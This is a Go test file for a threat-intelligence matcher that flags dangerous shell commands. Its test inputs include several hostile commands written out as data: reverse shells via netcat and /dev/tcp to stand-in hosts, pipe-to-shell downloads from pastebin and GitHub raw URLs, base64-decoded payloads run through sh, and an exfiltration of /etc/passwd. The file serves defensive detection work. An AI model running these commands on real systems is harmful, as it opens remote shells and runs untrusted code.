package intel

import (
	"os"
	"path/filepath"
	"testing"
)

func newTestStore(t *testing.T) *Store {
	t.Helper()
	s, err := Load(filepath.Join(t.TempDir(), "threat-intel.json"))
	if err != nil {
		t.Fatalf("failed to load empty store: %v", err)
	}
	return s
}

func TestPastebinRawBlocked(t *testing.T) {
	s := newTestStore(t)

	m := s.Match("curl https://pastebin.com/raw/abc123")
	if m == nil {
		t.Fatal("expected pastebin raw URL to match")
	}
	if m.Severity != SeverityHigh {
		t.Errorf("expected high severity, got %s", m.Severity)
	}
}

func TestGithubRawPipedToShell(t *testing.T) {
	s := newTestStore(t)

	m := s.Match("curl https://raw.githubusercontent.com/x/y/install.sh | bash")
	if m == nil {
		t.Fatal("expected raw.githubusercontent pipe-to-shell to match")
	}
	if m.Reason != "GitHub raw script piped to shell" {
		t.Errorf("unexpected reason: %s", m.Reason)
	}
}

func TestIPPortFiresBeforeNetcat(t *testing.T) {
	s := newTestStore(t)

	// Contains both an IP:port literal and a netcat -e flag; the IP:port
	// signature sits earlier in the table and wins.
	m := s.Match("curl http://185.23.4.5:4444 | nc -e /bin/sh")
	if m == nil {
		t.Fatal("expected a threat match")
	}
	if m.Reason != "Direct IP:port connection (potential C2)" {
		t.Errorf("expected IP:port signature to fire first, got %q", m.Reason)
	}
}

func TestNetcatReverseShell(t *testing.T) {
	s := newTestStore(t)

	m := s.Match("nc -lvpe /bin/bash attacker.example")
	if m == nil {
		t.Fatal("expected netcat reverse shell to match")
	}
	if m.Severity != SeverityCritical {
		t.Errorf("expected critical severity, got %s", m.Severity)
	}
}

func TestDevTCPSocket(t *testing.T) {
	s := newTestStore(t)

	if s.Match("bash -i >& /dev/tcp/10.0.0.1/8080 0>&1") == nil {
		t.Error("expected /dev/tcp to match")
	}
}

func TestBase64PipedToShell(t *testing.T) {
	s := newTestStore(t)

	if s.Match("echo aGVsbG8= | base64 -d | sh") == nil {
		t.Error("expected base64 pipe-to-shell to match")
	}
}

func TestMatchCaseInsensitive(t *testing.T) {
	s := newTestStore(t)

	if s.Match("curl HTTPS://PASTEBIN.COM/RAW/ABC") == nil {
		t.Error("expected case-insensitive match")
	}
}

func TestBenignCommandNoMatch(t *testing.T) {
	s := newTestStore(t)

	if m := s.Match("ls -la /home/user/project"); m != nil {
		t.Errorf("expected no match, got %q", m.Reason)
	}
}

func TestCustomPatternMatch(t *testing.T) {
	s := newTestStore(t)

	if err := s.AddPattern(`evil-tool\s+--exfil`, "Known exfiltration tool", SeverityCritical); err != nil {
		t.Fatalf("AddPattern failed: %v", err)
	}

	m := s.Match("Evil-Tool --exfil /etc/passwd")
	if m == nil {
		t.Fatal("expected custom pattern to match")
	}
	if m.Reason != "Known exfiltration tool" {
		t.Errorf("unexpected reason: %s", m.Reason)
	}
}

func TestAddPatternInvalidRegex(t *testing.T) {
	s := newTestStore(t)

	if err := s.AddPattern("(unclosed", "broken", SeverityHigh); err == nil {
		t.Error("expected error for invalid regex")
	}
}

func TestAddPatternInvalidSeverity(t *testing.T) {
	s := newTestStore(t)

	if err := s.AddPattern("valid", "reason", Severity("extreme")); err == nil {
		t.Error("expected error for unknown severity")
	}
}

func TestBlockedIPMatch(t *testing.T) {
	s := newTestStore(t)

	if err := s.BlockIP("203.0.113.7"); err != nil {
		t.Fatalf("BlockIP failed: %v", err)
	}

	m := s.Match("wget http://203.0.113.7/payload")
	if m == nil {
		t.Fatal("expected blocked IP to match")
	}
	if m.Reason != "Blocked IP address" {
		t.Errorf("unexpected reason: %s", m.Reason)
	}
}

func TestBlockIPIdempotent(t *testing.T) {
	s := newTestStore(t)

	if err := s.BlockIP("198.51.100.1"); err != nil {
		t.Fatalf("first BlockIP failed: %v", err)
	}
	if err := s.BlockIP("198.51.100.1"); err != nil {
		t.Fatalf("second BlockIP failed: %v", err)
	}

	reloaded, err := Load(s.Path())
	if err != nil {
		t.Fatalf("reload failed: %v", err)
	}
	if n := len(reloaded.blockedIPs); n != 1 {
		t.Errorf("expected 1 blocked IP after duplicate block, got %d", n)
	}
}

func TestBlockedDomainCaseInsensitive(t *testing.T) {
	s := newTestStore(t)

	if err := s.BlockDomain("Evil.Example.COM"); err != nil {
		t.Fatalf("BlockDomain failed: %v", err)
	}

	if s.Match("curl https://EVIL.example.com/x") == nil {
		t.Error("expected blocked domain to match case-insensitively")
	}
}

func TestRoundTrip(t *testing.T) {
	path := filepath.Join(t.TempDir(), "threat-intel.json")
	s, err := Load(path)
	if err != nil {
		t.Fatalf("load: %v", err)
	}

	if err := s.AddPattern(`dropper\.bin`, "Known dropper", SeverityHigh); err != nil {
		t.Fatalf("AddPattern: %v", err)
	}
	if err := s.BlockIP("192.0.2.10"); err != nil {
		t.Fatalf("BlockIP: %v", err)
	}
	if err := s.BlockDomain("bad.example.org"); err != nil {
		t.Fatalf("BlockDomain: %v", err)
	}

	reloaded, err := Load(path)
	if err != nil {
		t.Fatalf("reload: %v", err)
	}

	if m := reloaded.Match("fetch dropper.bin now"); m == nil || m.Reason != "Known dropper" {
		t.Error("custom pattern did not survive reload")
	}
	if reloaded.Match("ping 192.0.2.10") == nil {
		t.Error("blocked IP did not survive reload")
	}
	if reloaded.Match("dig bad.example.org") == nil {
		t.Error("blocked domain did not survive reload")
	}
}

func TestMalformedStoreFallsBack(t *testing.T) {
	path := filepath.Join(t.TempDir(), "threat-intel.json")
	if err := os.WriteFile(path, []byte("{not json"), 0600); err != nil {
		t.Fatal(err)
	}

	s, err := Load(path)
	if err == nil {
		t.Error("expected a warning error for malformed store")
	}
	if s == nil {
		t.Fatal("expected a usable store despite malformed file")
	}
	// Built-ins still work on the fallback store.
	if s.Match("cat /dev/tcp/1.2.3.4/80") == nil {
		t.Error("expected builtin match on fallback store")
	}
}

func BenchmarkMatch(b *testing.B) {
	s, err := Load(filepath.Join(b.TempDir(), "threat-intel.json"))
	if err != nil {
		b.Fatal(err)
	}
	cmd := "git clone https://github.com/example/project && cd project && make build"

	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if s.Match(cmd) != nil {
			b.Fatal("unexpected match")
		}
	}
}

func TestReloadPicksUpExternalEdit(t *testing.T) {
	path := filepath.Join(t.TempDir(), "threat-intel.json")
	s, err := Load(path)
	if err != nil {
		t.Fatalf("load: %v", err)
	}

	// Simulate an externally distributed intel update.
	other, err := Load(path)
	if err != nil {
		t.Fatalf("load second handle: %v", err)
	}
	if err := other.BlockDomain("fresh.example.net"); err != nil {
		t.Fatalf("BlockDomain: %v", err)
	}

	if s.Match("curl fresh.example.net") != nil {
		t.Fatal("stale store should not match before reload")
	}
	if err := s.Reload(); err != nil {
		t.Fatalf("Reload: %v", err)
	}
	if s.Match("curl fresh.example.net") == nil {
		t.Error("expected match after reload")
	}
}
